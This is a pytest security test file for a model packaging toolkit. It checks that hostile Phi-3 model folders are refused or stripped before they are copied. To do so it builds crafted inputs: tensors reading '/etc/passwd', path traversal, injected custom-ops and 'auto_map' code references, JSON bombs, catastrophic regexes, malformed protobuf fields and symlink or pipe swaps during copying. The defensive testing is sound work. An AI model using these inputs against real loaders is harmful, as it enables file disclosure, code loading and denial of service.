"""Hostile model folders: what they try reaches no library, in a build and in a worker. Small, and made here."""

import json
import os
import re
import shutil
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import onnx
import pytest
import yaml
from mlflow.utils.file_utils import local_file_uri_to_path
from onnx import helper
from yaml import YAMLError

from phi3kit.core.embedded_model import MODEL_FOLDER
from phi3kit.core.errors import ModelNotFound, SourceInvalid
from phi3kit.core.operating_system import open_real
from phi3kit.core.records import WRAPPERS, WrapperName
from phi3kit.deployment import azure
from phi3kit.formats import model_copy, model_folder, onnx_file
from phi3kit.formats.model_copy import copy_file, copy_model, link_or_copy
from phi3kit.packaging.build import known_part
from phi3kit.packaging.sources.find import find_source
from phi3kit.tracking.logged_models import files_of, resolve, signature_of
from phi3kit.tracking.store import BUILDS_EXPERIMENT, experiment_id, open_store
from phi3kit.worker.loading import copy_known, copy_logged, load_runtime, sliding_window
from phi3kit.worker.scoring import answer, load_known
from tests.conftest import Built, run_cli, settings_for
from tests.support.actors import ADMIN
from tests.support.folders import edit_json
from tests.support.samples import new_store
from tests.support.scripted_server import http_answer, scripted

SMALL = ("config.json", "generation_config.json", "tokenizer.json", "tokenizer_config.json")


@pytest.fixture
def weights(tmp_path: Path) -> Path:
    """The embedded model in a folder that anybody may have written."""
    shutil.copytree(MODEL_FOLDER, tmp_path / "weights")
    return tmp_path / "weights"


@pytest.fixture
def exported(built: Built, tmp_path: Path) -> Path:
    """Its export, likewise."""
    (graph,) = resolve(built.uri("onnx"), built.settings).folder.rglob("model.onnx")
    shutil.copytree(graph.parent, tmp_path / "exported")
    return tmp_path / "exported"


def copied(folder: Path) -> Path:
    """What the libraries get to see of a folder."""
    target = folder.with_name("known")
    copy_model("hostile", [folder], target)
    return target


def refusal(folder: Path) -> str:
    with pytest.raises(SourceInvalid) as refused:
        copied(folder)
    return refused.value.why


def read(path: Path) -> Any:
    return json.loads(path.read_text("utf-8"))


def edit_decoder(folder: Path, **values: Any) -> None:
    model = read(folder / "genai_config.json")["model"]
    edit_json(folder / "genai_config.json", model={**model, "decoder": {**model["decoder"], **values}})


def edit_graph(folder: Path, change: Callable[[onnx.ModelProto], None]) -> None:
    model = onnx.load(str(folder / "model.onnx"), load_external_data=False)
    change(model)
    (folder / "model.onnx").unlink()  # a link to the built model's own
    (folder / "model.onnx").write_bytes(model.SerializeToString())


def relocate(place: str) -> Callable[[onnx.ModelProto], None]:
    """Take a tensor from elsewhere."""

    def change(model: onnx.ModelProto) -> None:
        next(entry for entry in model.graph.initializer[0].external_data if entry.key == "location").value = place

    return change


def add_node(kind: str, domain: str) -> Callable[[onnx.ModelProto], None]:
    def change(model: onnx.ModelProto) -> None:
        model.opset_import.append(helper.make_opsetid(domain, 1))
        model.graph.node.append(helper.make_node(kind, ["input_ids"], ["more"], domain=domain))

    return change


def add_nested(model: onnx.ModelProto) -> None:
    """The operator lies in a branch of an If, and its weights in an attribute."""
    tensor = onnx.TensorProto(name="t", data_type=1, dims=[1], data_location=1)
    tensor.external_data.add(key="location", value="/etc/passwd")
    inner = helper.make_graph([helper.make_node("Constant", [], ["out"], value=tensor)], "inner", [], [])
    model.graph.node.append(helper.make_node("If", ["input_ids"], ["more"], then_branch=inner, else_branch=inner))


def add_function(model: onnx.ModelProto) -> None:
    model.functions.append(
        helper.make_function(
            "evil", "F", ["x"], ["y"], [helper.make_node("Abs", ["x"], ["y"])], [helper.make_opsetid("", 21)]
        )
    )


def varint(number: int) -> bytes:
    more, last = [], number
    while last > 0x7F:
        more.append(last & 0x7F | 0x80)
        last >>= 7
    return bytes([*more, last])


def field(number: int, content: bytes, hidden: bool = False) -> bytes:
    """A field with a length. hidden: of a tag whose upper bits C++ drops, so that it reads the field all the same."""
    return varint((number << 3 | 2) | (hidden << 32)) + varint(len(content)) + content


def outside_tensor() -> onnx.TensorProto:
    tensor = onnx.TensorProto(name="leak", data_type=2, dims=[4], data_location=1)
    tensor.external_data.add(key="location", value="../private")
    return tensor


SPLIT: dict[str, Any] = {"type": "Split", "pattern": {"String": " "}, "behavior": "Isolated", "invert": False}
GROW = {"type": "Replace", "pattern": {"String": "a"}, "content": "a" * 64}
LOOP = helper.make_node("Loop", ["x"], ["y"]).SerializeToString()
IF = helper.make_node("If", ["x"], ["y"]).SerializeToString()


class TestGenaiConfig:
    @pytest.mark.parametrize(
        ("options", "named"),
        [
            ({"custom_ops_library": "model.onnx_data"}, "session_options.custom_ops_library"),
            ({"enable_profiling": "/tmp/profile"}, "session_options.enable_profiling"),
            ({"ep.context_file_path": "/tmp/x"}, "session_options.ep.context_file_path"),
        ],
    )
    def test_session_options_are_written_anew(self, exported: Path, options: dict[str, Any], named: str) -> None:
        before = read(exported / "genai_config.json")
        edit_decoder(exported, session_options={**before["model"]["decoder"]["session_options"], **options})
        target = exported.with_name("known")
        (note,) = copy_model("hostile", [exported], target)
        assert named in note
        assert read(target / "genai_config.json") == before

    @pytest.mark.parametrize("key", ["run_options", "pipeline", "sliding_window", "anything"])
    def test_what_is_not_known_of_the_decoder_is_left_out(self, exported: Path, key: str) -> None:
        before = read(exported / "genai_config.json")
        edit_decoder(exported, **{key: {"custom_ops_library": "x"}})
        assert read(copied(exported) / "genai_config.json") == before

    def test_other_models_beside_the_decoder_are_left_out(self, exported: Path) -> None:
        before = read(exported / "genai_config.json")
        model = {
            **before["model"],
            "vision": {"filename": "evil.onnx"},
            "encoder": {},
            "speech": {"config_filename": "/x"},
        }
        edit_json(exported / "genai_config.json", model=model, engine={"dynamic_batching": {}})
        assert read(copied(exported) / "genai_config.json") == before

    @pytest.mark.parametrize("name", ["%s%n.%d", "%n", "past.%d.%d", "p%100000d", 7, "x" * 1000])
    def test_a_name_that_is_a_format_of_printf_is_refused(self, exported: Path, name: object) -> None:
        edit_decoder(exported, inputs={"past_key_names": name})
        assert refusal(exported).startswith("model.decoder.inputs.past_key_names in its genai_config.json is ")

    @pytest.mark.parametrize(
        ("search", "said"),
        [
            ({"num_beams": 10**6}, "search.num_beams in its genai_config.json is 1000000,"),
            ({"num_return_sequences": 500}, "search.num_return_sequences in its genai_config.json is 500,"),
            ({"top_k": 1e400}, "search.top_k in its genai_config.json is inf,"),
            ({"temperature": -1}, "search.temperature in its genai_config.json is -1,"),
            ({"top_p": [[[[[[[[1]]]]]]]]}, "search.top_p in its genai_config.json is [[[[[[[...]]]]]]],"),
        ],
    )
    def test_a_search_out_of_range_is_refused(self, exported: Path, search: dict[str, Any], said: str) -> None:
        edit_json(exported / "genai_config.json", search=search)
        assert refusal(exported).startswith(f"{said} which phi3kit does not support")
        with pytest.raises(SourceInvalid) as before_a_download:
            find_source(str(exported), ADMIN, settings_for(exported.parent))
        assert before_a_download.value.why == refusal(exported)

    @pytest.mark.parametrize("graph", ["model.ort", "/etc/passwd", "../model.onnx", "model.onnx\n", "a..onnx", ".onnx"])
    def test_a_graph_has_a_plain_name(self, exported: Path, graph: str) -> None:
        edit_decoder(exported, filename=graph)
        assert refusal(exported) == "Its genai_config.json names no graph in the folder."

    def test_the_layers_are_those_of_the_graph(self, exported: Path) -> None:
        edit_decoder(exported, num_hidden_layers=5)
        assert refusal(exported) == "Its genai_config.json says 5 layers, and its graph has 4."
        edit_decoder(exported, num_hidden_layers=200_000)
        assert refusal(exported).startswith("num_hidden_layers in its genai_config.json is 200,000")

    def test_a_whole_build_writes_no_profile_and_logs_no_name_of_a_library(
        self, exported: Path, tmp_path: Path
    ) -> None:
        """The attack itself: the build's check opened the session with these options."""
        outside = tmp_path / "outside"
        outside.mkdir()
        edit_decoder(exported, session_options={"enable_profiling": str(outside / "profile")})
        home = tmp_path / "home"
        home.mkdir()
        new_store(home)
        done = run_cli("build", "--wrapper", "onnx", "--source", str(exported), "--json", home=home)
        assert done.returncode == 0, done.stderr
        assert list(outside.iterdir()) == []
        (logged,) = (home / "artifacts").rglob("genai_config.json")
        assert "profil" not in logged.read_text()
        assert "left out: model.decoder.session_options.enable_profiling." in done.stdout


class TestGraph:
    @pytest.mark.parametrize(
        ("change", "why"),
        [
            (add_node("Anything", "evil.ops"), "the operator 'Anything' of 'evil.ops'"),
            (add_node("Loop", ""), "the operator 'Loop' of 'ONNX'"),
            (add_node("BeamSearch", "com.microsoft"), "the operator 'BeamSearch' of 'com.microsoft'"),
            (add_node("EPContext", "com.microsoft"), "the operator 'EPContext'"),
            (add_function, "functions or training steps of its own"),
            (add_nested, "weights from '/etc/passwd'"),
        ],
    )
    def test_operators_are_those_that_a_phi3_needs(
        self, exported: Path, change: Callable[[onnx.ModelProto], None], why: str
    ) -> None:
        edit_graph(exported, change)
        assert why in refusal(exported)

    @pytest.mark.parametrize(
        "place",
        ["/etc/passwd", "../outside.data", "*/_ORT_MEM_ADDR_/*", "tokenizer.json", "none.data", "sub/x.data", ""],
    )
    def test_weights_lie_in_the_folder(self, exported: Path, place: str) -> None:
        (exported.parent / "outside.data").write_bytes(b"x" * 10**7)
        edit_graph(exported, relocate(place))
        assert refusal(exported) == f"Its graph takes weights from {place!r}, which is not a file in the folder."

    def test_weights_that_are_a_link_lie_elsewhere(self, exported: Path) -> None:
        (exported / "model.onnx.data").rename(exported.parent / "outside.data")
        (exported / "model.onnx.data").symlink_to(exported.parent / "outside.data")
        assert refusal(exported).startswith("Its graph takes weights from 'model.onnx.data'")

    def test_data_files_that_the_graph_does_not_name_are_not_taken(self, exported: Path) -> None:
        (exported / "more.onnx_data").write_bytes(b"\x7fELF")
        assert not (copied(exported) / "more.onnx_data").exists()

    @pytest.mark.parametrize("content", [b"", b"\x08", b"ORTM" * 9, b"\xff" * 99, b"\x3a\xff\xff\xff\x7f", b"\x0b" * 9])
    def test_what_is_no_graph_is_said(self, exported: Path, content: bytes) -> None:
        (exported / "model.onnx").unlink()
        (exported / "model.onnx").write_bytes(content)
        assert refusal(exported).startswith("Its graph model.onnx cannot be used: it ")

    def test_graphs_within_graphs_end_somewhere(self, exported: Path) -> None:
        def change(model: onnx.ModelProto) -> None:
            inner = helper.make_graph([], "inner", [], [])
            for _ in range(30):
                inner = helper.make_graph([helper.make_node("If", ["x"], ["y"], then_branch=inner)], "g", [], [])
            model.graph.node.append(inner.node[0])

        edit_graph(exported, change)
        assert refusal(exported).endswith("its graphs are nested too deeply.")


class TestHiddenParts:
    """What a library may read otherwise than the judge does is refused, known or not."""

    @pytest.mark.parametrize(
        "more",
        [
            field(7, field(1, LOOP, hidden=True)),
            field(7, field(5, outside_tensor().SerializeToString(), hidden=True)),
            field(7, field(1, LOOP), hidden=True),
            field(7, field(1, IF + field(5, field(6, field(1, LOOP)), hidden=True))),
            field(25, field(1, b"F"), hidden=True),
            field(7, b"\x8a\x00" + varint(len(LOOP)) + LOOP),  # the tag in more bytes than it needs
            field(7, b"\x0a" + bytes([len(LOOP) | 0x80, 0x80, 0]) + LOOP),
            b"\x08" + b"\xff" * 9 + b"\x7f",  # a number of more than 64 bits
            field(0, b"x"),
            field(99, b"x"),
            field(7, field(99, b"x")),
            field(7, field(1, IF + field(10, b""))),
            field(7, field(1, IF + field(5, field(21, b"x")))),
            field(7, field(5, field(3, b""))),
            field(7, field(11, field(2, field(4, b"")))),
            field(8, field(9, b"x")),
            b"\x38\x01",  # the graph as a number
            field(7, b"\x08\x01"),
            field(7, field(5, b"\x6d1234")),
            field(1, b"x"),
            b"\x0b\x0c",
        ],
    )
    def test_are_refused(self, exported: Path, more: bytes) -> None:
        content = (exported / "model.onnx").read_bytes()
        (exported / "model.onnx").unlink()
        (exported / "model.onnx").write_bytes(content + more)
        assert refusal(exported).startswith(("Its graph model.onnx cannot be used: it ", "Its graph has the operator"))

    def test_every_field_that_is_known_is_one_of_onnx_and_of_the_same_kind(self) -> None:
        messages = onnx.ModelProto.DESCRIPTOR.file.message_types_by_name
        kinds = {9: "bytes", 12: "bytes", 2: "fixed32", 1: "fixed64"}  # by FieldDescriptor's types
        for name, table in onnx_file.MESSAGES.items():
            first, *inner = name.split(".")
            message = messages[f"{first}Proto"] if f"{first}Proto" in messages else messages[first]
            for each in inner:
                message = message.nested_types_by_name[each]
            for number, kind in table.items():
                known = message.fields_by_number[number]
                if known.message_type is None:
                    several = known.is_repeated and kinds.get(known.type) != "bytes"
                    assert kind == kinds.get(known.type, "int") + ("s" if several else ""), known.name
                elif kind in onnx_file.MESSAGES:
                    assert known.message_type.full_name.replace("Proto", "") == f"onnx.{kind}", known.name


def set_windows(*windows: int) -> Callable[[onnx.ModelProto], None]:
    """Give the attention nodes these windows, one after the other."""

    def change(model: onnx.ModelProto) -> None:
        nodes = [node for node in model.graph.node if node.op_type == "GroupQueryAttention"]
        for number, node in enumerate(nodes):
            (found,) = [each for each in node.attribute if each.name == "local_window_size"]
            found.i = windows[number % len(windows)]

    return change


class TestWindow:
    """Of a graph and its configs: behind a longer text the answers of one that attends further back are noise."""

    def say(self, folder: Path, place: str, window: int) -> None:
        if place == "genai_config.json":
            edit_decoder(folder, sliding_window={"window_size": window, "slide_key_value_cache": True})
        else:
            (folder / "config.json").write_text(json.dumps({"sliding_window": window}))

    @pytest.mark.parametrize("place", ["genai_config.json", "config.json"])
    def test_a_graph_without_one_gets_that_of_its_config_with_a_note(self, exported: Path, place: str) -> None:
        edit_graph(exported, set_windows(-1))
        self.say(exported, place, 2047)
        (note,) = copy_model("hostile", [exported], exported.with_name("known"))
        assert "its config says a sliding window of 2,047 tokens" in note
        assert onnx_file.read(exported.with_name("known") / "model.onnx").windows == {2047}
        assert onnx_file.read(exported / "model.onnx").windows == {-1}  # the source is as it was

    @pytest.mark.parametrize("windows", [(1000,), (2047, -1), (2047, 100)], ids=str)
    def test_one_that_contradicts_its_config_is_refused(self, exported: Path, windows: tuple[int, ...]) -> None:
        edit_graph(exported, set_windows(*windows))
        self.say(exported, "genai_config.json", 2047)
        assert refusal(exported).startswith(
            "Its config says a sliding window of 2,047 tokens, and its graph attends back "
        )

    @pytest.mark.parametrize("window", [2047, 4096, 0])
    def test_agreement_needs_no_note(self, exported: Path, window: int) -> None:
        self.say(exported, "config.json", window)
        assert copy_model("hostile", [exported], exported.with_name("known")) == []


class TestConfig:
    @pytest.mark.parametrize(
        "values",
        [
            {"auto_map": {"AutoConfig": "evil.Config"}},
            {"_attn_implementation": "someone/kernel"},
            {"attn_implementation": "someone/kernel"},
            {"transformers_weights": "/etc/passwd"},
            {"_name_or_path": "someone/else", "custom_pipelines": {"text-generation": {"impl": "evil.P"}}},
        ],
        ids=lambda values: next(iter(values)),
    )
    def test_names_no_code_and_no_other_place(self, weights: Path, values: dict[str, Any]) -> None:
        before = read(weights / "config.json")
        edit_json(weights / "config.json", **values)
        assert read(copied(weights) / "config.json") == before

    @pytest.mark.parametrize(
        ("values", "why"),
        [
            (
                {"num_hidden_layers": 200_000},
                "num_hidden_layers in its config.json is 200,000; the limit is 512",
            ),
            ({"num_hidden_layers": 500}, "bytes of weights, and it has 10,231,120"),
            ({"num_hidden_layers": 3}, "says 3 layers, and its weights have 4"),
            ({"vocab_size": 10**9}, "vocab_size in its config.json is 1,000,000,000"),
            ({"vocab_size": 4095}, "says 4,095 tokens of 256 numbers, and its weights have [4096, 256]"),
            ({"hidden_size": 10**8}, "hidden_size in its config.json is 100,000,000"),
            ({"num_attention_heads": 10**6}, "num_attention_heads in its config.json is 1,000,000"),
            ({"num_key_value_heads": 10**6}, "num_key_value_heads in its config.json is 1,000,000"),
            ({"max_position_embeddings": 9_999_999}, "9,999,999 tokens, which no Phi-3 has"),
            ({"model_type": "bark"}, "model_type 'bark'"),
            ({"quantization_config": {"quant_method": "someone"}}, "quantized already"),
        ],
    )
    def test_describes_the_weights_that_are_there(self, weights: Path, values: dict[str, Any], why: str) -> None:
        edit_json(weights / "config.json", **values)
        assert why in refusal(weights)

    @pytest.mark.parametrize(
        ("key", "value"),
        [
            *(("partial_rotary_factor", value) for value in (1e12, -1, float("nan"))),
            *(("rope_theta", value) for value in (0, -3.0, 1e10)),
            *(("rms_norm_eps", value) for value in (-1e-5, 2)),
            ("attention_dropout", 1e12),
            ("sliding_window", -1),
            ("rope_scaling", {"long_factor": [1e12]}),
            ("rope_scaling", {"factor": 0}),
            ("rope_scaling", "longrope"),
            ("rope_parameters", {"rope_type": "linear"}),
            ("hidden_act", "gelu_fast"),
            ("tie_word_embeddings", "yes"),
        ],
    )
    def test_values_are_known_ones(self, weights: Path, key: str, value: Any) -> None:
        """Left out, the library would take its own default, and compute another model."""
        edit_json(weights / "config.json", **{key: value})
        assert re.match(rf"{key}(\.\w+)? in its config.json is .+, which phi3kit does not support", refusal(weights))
        with pytest.raises(SourceInvalid) as before_a_download:
            find_source(str(weights), ADMIN, settings_for(weights.parent))
        assert before_a_download.value.next_step.startswith(f"Correct {key}")

    @pytest.mark.parametrize(
        "key", ["temperature", "top_p", "repetition_penalty", "top_k", "max_length", "eos_token_id"]
    )
    @pytest.mark.parametrize("value", [-1e9, "0.5", float("nan"), True])
    def test_so_are_those_of_the_generation(self, weights: Path, key: str, value: Any) -> None:
        edit_json(weights / "generation_config.json", **{key: value})
        assert refusal(weights).startswith(
            f"{key} in its generation_config.json is {value!r}, which phi3kit does not support"
        )

    @pytest.mark.parametrize("name", ["config.json", "tokenizer.json", "tokenizer_config.json"])
    @pytest.mark.parametrize("content", ["[" * 10**5, '{"a":' * 10**5, "9" * 10**5, "[" + " " * (7 * 10**7)], ids=len)
    def test_bombs_of_json_are_refused(self, weights: Path, name: str, content: str) -> None:
        (weights / name).write_text(content)
        assert "cannot be read" in refusal(weights)

    def test_code_pickles_and_adapters_are_not_taken(self, weights: Path) -> None:
        names = (
            "adapter_config.json",
            "pytorch_model.bin",
            "modeling_phi3.py",
            "processor_config.json",
            "tokenizer.model",
        )
        for name in names:
            (weights / name).write_text('{"base_model_name_or_path": "someone/else"}')
        assert not {path.name for path in copied(weights).iterdir()} & set(names)


class TestWeights:
    @pytest.mark.parametrize(
        ("header", "why"),
        [
            (b"", "its header says that it has"),
            (b"[]", "its header cannot be read"),
            (b'{"a":3}', "its header cannot be read"),
            (b'{"a":{"dtype":"F16","shape":[1],"data_offsets":[0,99999999999]}}', "its header cannot be read"),
            (b'{"a":' * 5000, "its header cannot be read"),
        ],
    )
    def test_a_header_is_read_before_the_library_reads_it(self, weights: Path, header: bytes, why: str) -> None:
        size = (weights / "model.safetensors").stat().st_size
        with (weights / "model.safetensors").open("wb") as file:
            file.write(len(header).to_bytes(8, "little") + header)
            file.truncate(size)
        assert why in refusal(weights)

    def test_a_huge_header_is_not_read_at_all(self, weights: Path) -> None:
        with (weights / "model.safetensors").open("wb") as file:
            file.write((90_000_000).to_bytes(8, "little"))
            file.truncate(100_000_000)
        assert refusal(weights) == "model.safetensors is damaged: its header says that it has 90,000,000 bytes."

    def test_an_index_that_leads_out_names_no_file_here(self, weights: Path) -> None:
        (weights.parent / "outside.safetensors").write_bytes(b"x")
        index = {"weight_map": {"a": "../outside.safetensors"}}
        (weights / "model.safetensors.index.json").write_text(json.dumps(index))
        assert refusal(weights) == "../outside.safetensors is missing."


class TestChangedAfterTheBuild:
    """Whoever may write the folder that a model was built from changes no logged model."""

    def placed(self, folder: Path | str, wrapper: WrapperName, home: Path, file: str) -> tuple[Path, Path]:
        """A file of weights, and what of it a build has in its own folder and logs."""
        settings = settings_for(home)
        source, _ = known_part(find_source(str(folder), ADMIN, settings), wrapper, home / "exports/run", settings)
        return find_source(str(folder), ADMIN, settings).folder / file, source.folder / file

    @pytest.mark.parametrize("file", ["model.safetensors", "model.onnx", "model.onnx.data"])
    def test_weights_are_the_stores_own(self, weights: Path, exported: Path, tmp_path: Path, file: str) -> None:
        of_torch = file == "model.safetensors"
        folder, wrapper = (weights, WRAPPERS[0]) if of_torch else (exported, WRAPPERS[1])
        theirs, logged = self.placed(folder, wrapper, tmp_path / "home", file)
        before = theirs.read_bytes()
        with theirs.open("r+b") as out:  # in place
            out.write(b"changed")
        assert logged.read_bytes() == before

    def test_files_of_the_data_folder_and_of_the_kit_are_not_copied(self, weights: Path, tmp_path: Path) -> None:
        for folder, home in ((weights, tmp_path), ("embedded", tmp_path / "home")):
            theirs, logged = self.placed(folder, "transformers", home, "model.safetensors")
            assert logged.samefile(theirs) or logged.stat().st_dev != theirs.stat().st_dev


class TestTokenizer:
    def test_its_config_names_no_code_and_no_file(self, weights: Path) -> None:
        before = read(weights / "tokenizer_config.json")
        evil = {
            "auto_map": {"AutoTokenizer": ["evil.T", None]},
            "tokenizer_file": "/etc/passwd",
            "vocab_file": "/etc/passwd",
        }
        edit_json(
            weights / "tokenizer_config.json", **evil, name_or_path="someone/else", gguf_file="x", processor_class="P"
        )
        assert read(copied(weights) / "tokenizer_config.json") == before

    def test_a_class_with_code_or_files_of_its_own_is_refused(self, weights: Path) -> None:
        edit_json(weights / "tokenizer_config.json", tokenizer_class="BertJapaneseTokenizer")
        assert refusal(weights).startswith(
            "tokenizer_class in its tokenizer_config.json is 'BertJapaneseTokenizer', which"
        )

    @pytest.mark.parametrize("key", ["model_max_length", "add_bos_token", "eos_token", "extra_special_tokens"])
    def test_a_value_that_is_not_known_is_refused(self, weights: Path, key: str) -> None:
        edit_json(weights / "tokenizer_config.json", **{key: -5})
        assert refusal(weights).startswith(f"{key} in its tokenizer_config.json is -5, which phi3kit does not support")

    @pytest.mark.parametrize("values", [{"model_max_length": int(1e30)}, {"extra_special_tokens": {}}], ids=str)
    def test_what_published_models_say_is_taken(self, weights: Path, values: dict[str, Any]) -> None:
        edit_json(weights / "tokenizer_config.json", **values)
        assert read(copied(weights) / "tokenizer_config.json").items() >= values.items()

    @pytest.mark.parametrize(
        ("values", "why"),
        [
            (
                {"pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated"}},
                "may run forever",
            ),
            ({"normalizer": {"type": "Replace", "pattern": {"Regex": "(a|a)*b"}, "content": ""}}, "may run forever"),
            (
                {"normalizer": {"type": "Replace", "pattern": {"String": " "}, "content": "x" * 10**6}},
                "writes long texts",
            ),
            ({"normalizer": {"type": "Precompiled", "precompiled_charsmap": "AAAA"}}, "step 'Precompiled'"),
            ({"decoder": {"type": "Sequence", "decoders": [{"type": "Fuse"}] * 10**4}}, "too many steps"),
            ({"pre_tokenizer": {"type": "Sequence", "pretokenizers": [SPLIT] * 16}}, "too many steps"),
            (
                {
                    "normalizer": {"type": "Sequence", "normalizers": [{"type": "NFC"}] * 2},
                    "pre_tokenizer": {"type": "Sequence", "pretokenizers": [SPLIT] * 8},
                    "post_processor": {"type": "Sequence", "processors": [{"type": "ByteLevel"}] * 4},
                },
                "too many steps",
            ),
            ({"decoder": {"type": "Sequence", "decoders": [{"type": "Sequence", "decoders": []}] * 16}}, "too many"),
            # A step without a type, which the library knows by its keys.
            ({"pre_tokenizer": {key: SPLIT[key] for key in ("pattern", "behavior", "invert")}}, "a step 'None'"),
            ({"pre_tokenizer": {"type": "Sequence", "pretokenizers": [{"behavior": "x"}]}}, "a step 'None'"),
            ({"normalizer": "NFC"}, "a step 'None'"),
            ({"model": {"type": "WordPiece", "vocab": {}}}, "another model than byte-pair encoding"),
            ({"model": {"type": "BPE", "vocab": [], "merges": []}}, "no vocabulary"),
            ({"truncation": {"max_length": 1}}, "truncation or padding"),
            ({"normalizer": {"type": "Sequence", "normalizers": [GROW] * 2}}, "together write long texts"),
            ({"normalizer": GROW, "pre_tokenizer": {"type": "ByteLevel"}}, "together write long texts"),
            (
                {"normalizer": {"type": "Sequence", "normalizers": [{"type": "Prepend", "prepend": "xxx"}] * 4}},
                "together",
            ),
            (
                {"normalizer": {"type": "Sequence", "normalizers": [{"type": "NFKC"}, GROW]}},
                "together write long texts",
            ),
            ({"decoder": {"type": "Sequence", "decoders": [GROW] * 5}}, "together write long texts"),
            (
                {"post_processor": {"type": "TemplateProcessing", "single": [{"Sequence": {"id": "A"}}] * 65}},
                "together",
            ),
            ({"normalizer": {**GROW, "pattern": {"String": ""}}}, "searches for an empty text"),
            (
                {"decoder": {"type": "Strip", "content": "a", "start": 0, "stop": 50}},
                "strips more than the library can",
            ),
            ({"decoder": {"type": "Strip", "content": "a", "start": 2, "stop": 0}}, "strips more than the library can"),
            ({"model": {"type": "BPE", "vocab": {"x" * 1001: 0}, "merges": []}}, "a token that is too long"),
            ({"model": {"type": "BPE", "vocab": {}, "merges": [], "end_of_word_suffix": "x" * 65}}, "too long"),
            ({"more": 1}, "'more'"),
        ],
    )
    def test_its_steps_are_known_and_few(self, weights: Path, values: dict[str, Any], why: str) -> None:
        edit_json(weights / "tokenizer.json", **values)
        assert why in refusal(weights)

    def test_as_many_steps_as_published_models_have_are_taken(self, weights: Path) -> None:
        steps = {"type": "Sequence", "pretokenizers": [{"type": "Digits", "individual_digits": True}] * 8}
        edit_json(weights / "tokenizer.json", pre_tokenizer=steps)
        assert read(copied(weights) / "tokenizer.json")["pre_tokenizer"] == steps

    @pytest.mark.parametrize("template", ["x" * 200_000, [{"name": "default", "template": "{{ 1 }}"}]], ids=type)
    def test_a_template_that_is_too_long_or_of_several_is_refused(self, weights: Path, template: Any) -> None:
        edit_json(weights / "tokenizer_config.json", chat_template=template)
        assert refusal(weights).startswith("chat_template in its tokenizer_config.json is ")


class TestLinks:
    @pytest.mark.parametrize("name", [*SMALL, "model.safetensors"])
    def test_a_file_that_is_a_link_to_elsewhere_is_not_there(self, weights: Path, name: str) -> None:
        private = weights.parent / "private"
        (weights / name).rename(private)
        (weights / name).symlink_to(private)
        if name == "generation_config.json":  # which a model need not have
            assert not (copied(weights) / name).exists()
            return
        with pytest.raises(SourceInvalid, match=r"missing|no weights"):
            find_source(str(weights), ADMIN, settings_for(weights.parent))
        assert "missing" in (why := refusal(weights)) or "no weights" in why

    @pytest.mark.parametrize(
        "name", ["README.md", "LICENSE", "LICENSE.txt", "chat_template.jinja", "special_tokens_map.json"]
    )
    def test_no_private_file_gets_into_the_store_by_a_link(self, weights: Path, name: str) -> None:
        private = weights.parent / "private"
        private.write_text('{"secret": 1}')
        (weights / name).symlink_to(private)
        assert not (copied(weights) / name).exists()

    def test_a_pipe_stops_nobody(self, weights: Path) -> None:
        os.mkfifo(weights / "README.md")
        assert not (copied(weights) / "README.md").exists()

    def test_the_hubs_own_cache_is_made_of_links_and_can_be_built_from(self, weights: Path, tmp_path: Path) -> None:
        blobs, snapshot = tmp_path / "cache" / "blobs", tmp_path / "cache" / "snapshots" / "c0ffee"
        shutil.copytree(weights, blobs)
        snapshot.mkdir(parents=True)
        for path in blobs.iterdir():
            (snapshot / path.name).symlink_to(f"../../blobs/{path.name}")
        assert {path.name for path in copied(snapshot).iterdir()} == {*SMALL, "model.safetensors"}
        (snapshot / "README.md").symlink_to(tmp_path / "private")
        (tmp_path / "private").write_text("secret")
        target = tmp_path / "again"
        copy_model("hostile", [snapshot], target)
        assert not (target / "README.md").exists()


PLACED = [*SMALL, "README.md", "LICENSE", "chat_template.jinja", "model.safetensors"]


def put_in_place(path: Path, kind: str) -> None:
    """Replace a file by a link to the like elsewhere, or by a pipe that nobody writes into."""
    private = path.parent.parent / "private"
    path.rename(private)
    if kind == "link":
        path.symlink_to(private)
    elif kind == "pipe":
        os.mkfifo(path)


@pytest.fixture
def behind_the_judge(monkeypatch: pytest.MonkeyPatch) -> Callable[[Callable[[], None]], None]:
    """Do something once the folder was judged, before the first file of it is copied."""

    def arrange(change: Callable[[], None]) -> None:
        judge, waiting = model_copy.judge, [change]

        def judge_and_change(*arguments: Any) -> Any:
            found = judge(*arguments)
            if waiting:
                waiting.pop()()
            return found

        monkeypatch.setattr(model_copy, "judge", judge_and_change)

    return arrange


class TestPutInPlace:
    """Somebody replaces a file of the folder while it is copied: no private file, and no wait for ever."""

    @pytest.mark.parametrize("place", [copy_file, link_or_copy])
    @pytest.mark.parametrize("kind", ["link", "pipe", "nothing"])
    @pytest.mark.parametrize("name", PLACED)
    def test_of_weights_is_refused(
        self,
        weights: Path,
        behind_the_judge: Callable[[Callable[[], None]], None],
        name: str,
        kind: str,
        place: model_copy.Place,
    ) -> None:
        for text in ("README.md", "LICENSE", "chat_template.jinja"):
            (weights / text).write_text("text")
        behind_the_judge(lambda: put_in_place(weights / name, kind))
        with pytest.raises(SourceInvalid) as refused:
            copy_model("hostile", [weights], target := weights.with_name("known"), place)
        assert refused.value.why == f"It changes while it is copied: {name} is gone, or a link or a pipe."
        assert not (target / name).exists()
        assert not [path for path in target.iterdir() if path.is_symlink()]

    @pytest.mark.parametrize("kind", ["link", "pipe"])
    @pytest.mark.parametrize("name", ["genai_config.json", "model.onnx", "model.onnx.data"])
    def test_of_an_export_is_refused(
        self, exported: Path, behind_the_judge: Callable[[Callable[[], None]], None], name: str, kind: str
    ) -> None:
        behind_the_judge(lambda: put_in_place(exported / name, kind))
        assert refusal(exported) == f"It changes while it is copied: {name} is gone, or a link or a pipe."
        assert not (exported.with_name("known") / name).exists()

    @pytest.mark.parametrize("kind", ["link", "pipe"])
    def test_of_a_whole_build_is_refused(
        self, weights: Path, tmp_path: Path, behind_the_judge: Callable[[Callable[[], None]], None], kind: str
    ) -> None:
        settings = settings_for(tmp_path / "home")
        source = find_source(str(weights), ADMIN, settings)
        behind_the_judge(lambda: put_in_place(weights / "model.safetensors", kind))
        with pytest.raises(SourceInvalid, match=r"model\.safetensors is gone, or a link or a pipe"):
            known_part(source, "transformers", tmp_path / "run", settings)
        assert not list((tmp_path / "run").rglob("*.safetensors"))

    @pytest.mark.parametrize("kind", ["link", "pipe"])
    def test_of_a_logged_model_is_refused_by_a_worker(
        self, built: Built, tmp_path: Path, behind_the_judge: Callable[[Callable[[], None]], None], kind: str
    ) -> None:
        shutil.copytree(resolve(built.uri("transformers"), built.settings).folder, folder := tmp_path / "logged")
